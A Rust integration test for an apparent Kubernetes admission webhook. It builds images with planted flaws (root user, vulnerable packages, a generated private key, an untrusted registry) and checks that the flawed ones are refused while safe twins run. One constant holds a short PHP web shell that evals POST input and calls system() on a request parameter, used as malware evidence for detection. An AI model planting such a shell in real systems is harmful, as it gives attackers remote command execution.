//! Kubernetes' admission on a real cluster: the seven kinds stay out and their near twins run, told
//! by `kubectl`; ephemeral containers; the glass; an outage; and the API server's own image review.
//!
//! Needs what `tests/lab/kubernetes.sh` makes, and is skipped without (`make test-kubernetes`).

use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use walks::{
    Cluster, ClusterOptions, Image, NODE, Registry, Run, command, kubernetes_program, run, scratch,
};

/// How long something may take to happen.
const PATIENCE: Duration = Duration::from_secs(60);

/// A page that runs what a visitor sends. Never executed: it is only read.
const PHP: &[u8] = b"<?php\n@eval(base64_decode($_POST['cmd']));\nsystem($_REQUEST['c']);\n";

/// One kind of the seven: its rule, its image and its twin, by the names of their repositories.
struct Kind {
    rule: &'static str,
    evidence: &'static str,
    image: String,
    twin: String,
}

/// A registry with images, their reports, and a folder for the server.
struct House {
    home: tempfile::TempDir,
    kinds: Vec<Kind>,
    _registries: [Registry; 2],
}

/// `lazaret server`, ended when dropped.
struct Admission {
    child: Child,
    url: String,
}

impl Drop for Admission {
    fn drop(&mut self) {
        let _ = Command::new("kill").args(["-TERM", &self.child.id().to_string()]).status();
        let _ = self.child.wait();
    }
}

impl House {
    fn build(cluster: &Cluster) -> Option<House> {
        let registries = [Registry::start(None)?, Registry::start(None)?];
        let home = scratch();
        let advisories = home.path().join("advisories");
        write_advisories(&advisories);
        let data = home.path().join("data");
        std::fs::create_dir(&data).unwrap();
        run(command(&data, &data).args(["advisories", "import"]).arg(&advisories)).expect(0);
        let ours = &registries[0].address;
        write_policy(&home.path().join("policy.yaml"), ours);
        let house =
            House { kinds: kinds(ours, &registries[1].address), home, _registries: registries };
        for (name, image) in images(house.home.path()) {
            let kind = house
                .kinds
                .iter()
                .find(|kind| kind.rule == name.trim_end_matches("-twin"))
                .unwrap();
            let reference = if name.ends_with("-twin") { &kind.twin } else { &kind.image };
            house.publish(cluster, &image, reference);
        }
        Some(house)
    }

    fn publish(&self, cluster: &Cluster, image: &Path, reference: &str) {
        let docker = |arguments: &[&str]| run(cluster.dockerd.command().args(arguments)).expect(0);
        let loaded = docker(&["load", "--quiet", "--input", &image.display().to_string()]).out;
        let loaded = loaded.trim().rsplit(' ').next().unwrap().to_owned();
        docker(&["tag", &loaded, reference]);
        docker(&["push", "--quiet", reference]);
        let word = format!("registry:{reference}");
        let scan =
            self.lazaret(&["scan", &word, "--save", "--exit-zero", "--policy", &self.policy()]);
        scan.expect(0);
    }

    fn lazaret(&self, arguments: &[&str]) -> Run {
        let data = self.home.path().join("data");
        run(command(&data, &self.home.path().join("cache")).args(arguments))
    }

    fn policy(&self) -> String {
        self.home.path().join("policy.yaml").display().to_string()
    }

    fn tls(&self) -> PathBuf {
        self.home.path().join("tls")
    }

    fn serve(&self, port: u16) -> Admission {
        let data = self.home.path().join("data");
        let mut server = command(&data, &data);
        server.args(["server", "--admission", "--name", "127.0.0.1"]);
        server.arg("--listen").arg(format!("127.0.0.1:{port}"));
        server.arg("--certificates").arg(self.tls()).args(["--policy", &self.policy()]);
        server.args(["--break-glass-group", "system:masters"]);
        let log = std::fs::File::create(self.home.path().join("server.log")).unwrap();
        let child =
            server.stdin(Stdio::null()).stdout(log.try_clone().unwrap()).stderr(log).spawn();
        let admission =
            Admission { child: child.unwrap(), url: format!("https://127.0.0.1:{port}") };
        until("the server listens", || TcpStream::connect(format!("127.0.0.1:{port}")).is_ok());
        admission
    }

    fn register(&self, cluster: &Cluster, admission: &Admission) {
        let tls = self.tls().display().to_string();
        let arguments =
            ["server", "manifests", "--webhooks", "--url", &admission.url, "--certificates", &tls];
        let manifests = self.lazaret(&arguments).expect(0).out;
        cluster.apply("admin", &manifests).expect(0);
    }
}

fn until(what: &str, mut holds: impl FnMut() -> bool) {
    let begun = Instant::now();
    while !holds() {
        assert!(begun.elapsed() < PATIENCE, "not in {PATIENCE:?}: {what}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn free_port() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.local_addr().unwrap().port()
}

/// Two advisories of a library that exists nowhere.
fn write_advisories(directory: &Path) {
    std::fs::create_dir_all(directory).unwrap();
    let advisory = |id: &str, (introduced, fixed): (&str, &str), vector: &str| {
        let document = json!({
            "schema_version": "1.6.0", "id": id, "modified": "2026-01-01T00:00:00Z",
            "published": "2026-01-01T00:00:00Z", "aliases": [], "summary": "made for a walk",
            "severity": [{"type": "CVSS_V3", "score": vector}],
            "affected": [{
                "package": {"ecosystem": "PyPI", "name": "shopkit"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": introduced}, {"fixed": fixed}]}],
            }],
        });
        std::fs::write(directory.join(format!("{id}.json")), document.to_string()).unwrap();
    };
    advisory("CVE-2026-1000", ("0", "1.5"), "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
    advisory("CVE-2026-2000", ("1.8", "2.5"), "CVSS:3.1/AV:L/AC:H/PR:H/UI:R/S:U/C:L/I:N/A:N");
}

fn write_policy(path: &Path, registry: &str) {
    let policy = format!(
        "version: 1
on_missing: deny
trust:
  scopes:
    - {{scope: \"*\", registries: [\"{registry}\"]}}
rules:
  - {{name: no-root, decision: deny, root: true}}
  - {{name: no-critical, decision: deny, vulnerability: {{severity: critical}}}}
  - {{name: no-heartache, decision: deny, cve: {{ids: [CVE-2026-2000]}}}}
  - {{name: no-malware, decision: deny, malware: {{band: malicious}}}}
  - {{name: no-old-library, decision: deny, package: {{purls: [\"pkg:pypi/oldlib@1.0\"]}}}}
  - {{name: only-ours, decision: deny, untrusted: true}}
  - {{name: no-keys, decision: deny, private_key: true}}
  - {{name: watch-network, decision: warn, workload: {{host_namespaces: [network]}}}}
"
    );
    std::fs::write(path, policy).unwrap();
}

fn kinds(ours: &str, theirs: &str) -> Vec<Kind> {
    let kind = |rule: &'static str, evidence| Kind {
        rule,
        evidence,
        image: format!("{}/lab/{rule}:1", if rule == "only-ours" { theirs } else { ours }),
        twin: format!("{ours}/lab/{rule}:2"),
    };
    vec![
        kind("no-root", "root"),
        kind("no-critical", "CVE-2026-1000"),
        kind("no-heartache", "CVE-2026-2000"),
        kind("no-malware", "status.php"),
        kind("no-old-library", "oldlib@1.0"),
        kind("only-ours", "registr"),
        kind("no-keys", "server.key"),
    ]
}

/// The archives of the seven images and their twins, by rule.
fn images(directory: &Path) -> Vec<(String, PathBuf)> {
    let busybox = std::fs::read(kubernetes_program("busybox").unwrap()).unwrap();
    let key = Command::new("openssl").args(["genrsa", "2048"]).output().unwrap().stdout;
    let package = |name: &str, version: &str| {
        let path = format!("usr/lib/python3/dist-packages/{name}-{version}.dist-info/METADATA");
        (path, format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n").into_bytes())
    };
    let file = |path: &str, content: &[u8]| (path.to_owned(), content.to_owned());
    let planted = [
        ("no-root", file("etc/motd", b"a"), file("etc/motd", b"b")),
        ("no-critical", package("shopkit", "1.4"), package("shopkit", "1.5")),
        ("no-heartache", package("shopkit", "2.4"), package("shopkit", "2.5")),
        (
            "no-malware",
            file("srv/www/status.php", PHP),
            file("srv/www/status.php", b"<?php\necho 'well';\n"),
        ),
        ("no-old-library", package("oldlib", "1.0"), package("oldlib", "1.1")),
        ("only-ours", file("etc/motd", b"c"), file("etc/motd", b"d")),
        ("no-keys", file("srv/tls/server.key", &key), file("srv/tls/server.key.txt", b"gone")),
    ];
    let mut made = Vec::new();
    for (rule, flaw, twin) in planted {
        for (name, (path, content), user) in [
            (rule.to_owned(), flaw, if rule == "no-root" { "" } else { "1000:1000" }),
            (format!("{rule}-twin"), twin, "1000:1000"),
        ] {
            let image = Image::new()
                .layer(
                    "ADD base",
                    &[
                        ("bin/busybox", 0o755, &busybox),
                        (
                            "etc/passwd",
                            0o644,
                            b"root:x:0:0::/:/bin/false\napp:x:1000:1000::/:/bin/false\n",
                        ),
                    ],
                )
                .layer("COPY it", &[(&path, 0o644, &content)])
                .config(json!({"User": user, "Cmd": ["/bin/busybox", "sleep", "1000000"]}));
            made.push((name.clone(), image.save(directory, &name)));
        }
    }
    made
}

fn pod(name: &str, image: &str) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name},
        "spec": pod_spec(image),
    })
}

fn pod_spec(image: &str) -> Value {
    json!({
        "nodeName": NODE, "hostNetwork": true, "automountServiceAccountToken": false,
        "terminationGracePeriodSeconds": 0,
        "containers": [{"name": "app", "image": image, "imagePullPolicy": "IfNotPresent"}],
    })
}

fn deployment(name: &str, image: &str) -> Value {
    json!({
        "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name},
        "spec": {
            "replicas": 1, "selector": {"matchLabels": {"app": name}},
            "template": {"metadata": {"labels": {"app": name}}, "spec": pod_spec(image)},
        },
    })
}

fn phase(cluster: &Cluster, arguments: &[&str]) -> String {
    let mut all = vec!["get", "pods", "-o", "jsonpath={.items[*].status.phase}{.status.phase}"];
    all.extend(arguments);
    cluster.kubectl(&all).out
}

fn exists(cluster: &Cluster, kind: &str, name: &str) -> bool {
    cluster.kubectl(&["get", kind, name]).status == 0
}

#[test]
fn the_seven_kinds_stay_out_and_their_twins_run() {
    let Some(cluster) = Cluster::start(&ClusterOptions::default()) else { return };
    let Some(house) = House::build(&cluster) else { return };
    let port = free_port();
    let admission = house.serve(port);
    house.register(&cluster, &admission);
    seven_kinds(&cluster, &house);
    controllers(&cluster, &house);
    ephemeral_containers(&cluster, &house);
    broken_glass(&cluster, &house);
    outage(&cluster, &house, admission);
    decisions(&house);
}

fn seven_kinds(cluster: &Cluster, house: &House) {
    for kind in &house.kinds {
        let refused =
            cluster.apply("developer", &pod(kind.rule, &kind.image).to_string()).expect(1);
        eprintln!("{}", refused.err);
        for word in [kind.rule, kind.evidence, "judge.lazaret.dev", "lazaret refuses", "exception"]
        {
            assert!(refused.err.contains(word), "{}: no {word} in {}", kind.rule, refused.err);
        }
        assert!(!exists(cluster, "pod", kind.rule), "{} is there", kind.rule);
        let twin = format!("{}-twin", kind.rule);
        let let_in = cluster.apply("developer", &pod(&twin, &kind.twin).to_string()).expect(0);
        assert!(let_in.err.contains("watch-network"), "kubectl shows the warning: {}", let_in.err);
        until(&format!("{twin} runs"), || phase(cluster, &[&twin]) == "Running");
        let pinned = cluster
            .kubectl(&["get", "pod", &twin, "-o", "jsonpath={.spec.containers[0].image}"])
            .out;
        assert!(pinned.starts_with(&format!("{}@sha256:", kind.twin)), "{pinned}");
    }
    let unknown = cluster
        .apply("developer", &pod("unknown", "registry.invalid/never:1").to_string())
        .expect(1);
    assert!(unknown.err.contains("on_missing"), "{}", unknown.err);
    let dry = cluster
        .kubectl(&["run", "dry", "--image", &house.kinds[0].image, "--dry-run=server"])
        .expect(1);
    assert!(dry.err.contains("no-root"), "{}", dry.err);
}

fn controllers(cluster: &Cluster, house: &House) {
    let kind = &house.kinds[3];
    let refused = cluster.apply("developer", &deployment("bad", &kind.image).to_string()).expect(1);
    assert!(refused.err.contains(kind.rule), "{}", refused.err);
    cluster.apply("developer", &deployment("good", &kind.twin).to_string()).expect(0);
    until("the deployment's pod runs", || phase(cluster, &["-l", "app=good"]) == "Running");
    let image = cluster
        .kubectl(&[
            "get",
            "deployment",
            "good",
            "-o",
            "jsonpath={.spec.template.spec.containers[0].image}",
        ])
        .out;
    assert_eq!(image, kind.twin, "a controller keeps its tag");
    let change = format!("app={}", kind.image);
    cluster.kubectl_as("developer", &["set", "image", "deployment/good", &change]).expect(1);
    cluster.kubectl_as("developer", &["scale", "deployment/good", "--replicas=0"]).expect(0);
    cluster.kubectl_as("developer", &["delete", "deployment", "good", "--wait=false"]).expect(0);
}

fn ephemeral_containers(cluster: &Cluster, house: &House) {
    let (running, kind) = ("no-root-twin", &house.kinds[6]);
    let debug = |image: &str| {
        let image = format!("--image={image}");
        cluster.kubectl(&[
            "debug",
            running,
            &image,
            "--image-pull-policy=IfNotPresent",
            "--",
            "/bin/busybox",
            "sleep",
            "1000",
        ])
    };
    let refused = debug(&kind.image);
    assert_ne!(refused.status, 0, "{refused:?}");
    assert!(refused.err.contains(kind.rule), "{}", refused.err);
    debug(&kind.twin).expect(0);
    let images = cluster
        .kubectl(&["get", "pod", running, "-o", "jsonpath={.spec.ephemeralContainers[*].image}"])
        .out;
    assert!(images.starts_with(&kind.twin) && images.contains("@sha256:"), "{images}");
}

fn broken_glass(cluster: &Cluster, house: &House) {
    let mut document = pod("glass", &house.kinds[1].image);
    document["metadata"]["annotations"] =
        json!({"lazaret.dev/break-glass": "INC-12: the shop is down"});
    let refused = cluster.apply("developer", &document.to_string()).expect(1);
    assert!(refused.err.contains("system:masters"), "{}", refused.err);
    let broken = cluster.apply("admin", &document.to_string()).expect(0);
    assert!(broken.err.contains("INC-12"), "{}", broken.err);
    until("it runs", || phase(cluster, &["glass"]) == "Running");
    let audit = cluster.audit_log();
    assert!(
        audit.contains("judge.lazaret.dev/because\":\"break-glass: INC-12"),
        "in the audit log"
    );
    assert!(audit.contains("judge.lazaret.dev/verdict\":\"deny"));
}

/// The server is killed: nothing new starts, what runs lives and can be deleted; it comes back.
fn outage(cluster: &Cluster, house: &House, mut admission: Admission) {
    let port: u16 = admission.url.rsplit(':').next().unwrap().parse().unwrap();
    admission.child.kill().unwrap();
    let twin = &house.kinds[2].twin;
    let refused = cluster.apply("developer", &pod("late", twin).to_string()).expect(1);
    assert!(refused.err.contains("lazaret.dev"), "{}", refused.err);
    assert_eq!(phase(cluster, &["no-keys-twin"]), "Running");
    cluster
        .kubectl_as("developer", &["delete", "pod", "no-malware-twin", "--wait=false"])
        .expect(0);
    until("it is gone", || !exists(cluster, "pod", "no-malware-twin"));
    drop(admission);
    let _again = house.serve(port);
    until("it is let in", || {
        cluster.apply("developer", &pod("late", twin).to_string()).status == 0
    });
    until("it runs", || phase(cluster, &["late"]) == "Running");
}

fn decisions(house: &House) {
    let store = house.home.path().join("data/lazaret.sqlite");
    assert!(store.is_file());
    let log = std::fs::read_to_string(house.home.path().join("server.log")).unwrap();
    assert!(log.contains("admission listens on"), "{log}");
}

#[test]
fn the_api_servers_own_image_review_asks_too() {
    if kubernetes_program("kubelet").is_none() {
        return;
    }
    let directory = scratch();
    let port = free_port();
    let access = json!({
        "apiVersion": "v1", "kind": "Config", "current-context": "lazaret",
        "clusters": [{"name": "lazaret", "cluster": {
            "server": format!("https://127.0.0.1:{port}/image-review"),
            "certificate-authority": directory.path().join("ca.crt"),
        }}],
        "users": [{"name": "api", "user": {}}],
        "contexts": [{"name": "lazaret", "context": {"cluster": "lazaret", "user": "api"}}],
    });
    let kubeconfig = directory.path().join("image-review.kubeconfig");
    std::fs::write(&kubeconfig, access.to_string()).unwrap();
    // The file must be there when the API server starts; the server fills it.
    let tls = directory.path().join("tls").display().to_string();
    let data = directory.path();
    let printed = run(command(data, data).args([
        "server",
        "manifests",
        "--webhooks",
        "--certificates",
        &tls,
    ]));
    printed.expect(0);
    std::fs::copy(directory.path().join("tls/ca.crt"), directory.path().join("ca.crt")).unwrap();
    let image_policy = json!({
        "apiVersion": "apiserver.config.k8s.io/v1", "kind": "AdmissionConfiguration",
        "plugins": [{"name": "ImagePolicyWebhook", "configuration": {"imagePolicy": {
            "kubeConfigFile": kubeconfig, "allowTTL": 1, "denyTTL": 1, "retryBackoff": 200, "defaultAllow": false,
        }}}],
    });
    let options = ClusterOptions { image_policy: Some(image_policy) };
    let Some(cluster) = Cluster::start(&options) else { return };
    let Some(house) = House::build(&cluster) else { return };
    run(Command::new("cp").arg("-r").arg(&tls).arg(house.tls())).expect(0);
    let admission = house.serve(port);
    let kind = &house.kinds[4];
    let refused = cluster.apply("developer", &pod("bad", &kind.image).to_string()).expect(1);
    assert!(refused.err.contains(kind.rule), "{}", refused.err);
    cluster.apply("developer", &pod("good", &kind.twin).to_string()).expect(0);
    until("it runs", || phase(&cluster, &["good"]) == "Running");
    drop(admission);
    cluster.apply("developer", &pod("late", &house.kinds[5].twin).to_string()).expect(1);
}
